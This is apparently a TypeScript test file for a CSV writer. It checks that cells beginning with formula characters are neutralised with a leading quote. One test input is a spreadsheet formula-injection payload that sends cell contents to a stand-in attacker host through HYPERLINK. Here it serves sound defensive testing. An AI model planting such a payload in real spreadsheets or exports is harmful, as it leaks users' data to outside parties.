/** The one CSV writer: every text cell a spreadsheet would run is written as text, and the file still parses. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvText, neutraliseCell } from '../../../shared/csv.ts';

describe('neutraliseCell', () => {
  it('puts a single quote before a cell that starts with =, +, -, @, a tab or a carriage return', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseCell(`${start}1+1`)).toBe(`'${start}1+1`);
  });

  it('leaves every other cell alone, a formula character inside one included', () => {
    for (const cell of ['', 'plain', 'a=b', 'fine - nothing', ' =1', "'=1", 'x@example.test'])
      expect(neutraliseCell(cell)).toBe(cell);
  });
});

describe('csvText', () => {
  it('writes the header and the rows, neutralising every text cell and quoting where needed', () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const csv = csvText(
      ['file', 'line', 'problem'],
      [
        [hostile, 3, 'a "quoted", comma'],
        ['-2+3', null, '\r=1\nsecond line'],
        ['plain.csv', -1, undefined],
      ],
    );
    expect(csv.split('\n')[0]).toBe('file,line,problem');
    expect(csv.endsWith('\n')).toBe(true);
    expect(parse(csv, { columns: true })).toEqual([
      { file: `'${hostile}`, line: '3', problem: 'a "quoted", comma' },
      { file: "'-2+3", line: '', problem: "'\r=1\nsecond line" },
      // Numbers Foyer writes itself are numbers, not text from a file.
      { file: 'plain.csv', line: '-1', problem: '' },
    ]);
  });
});
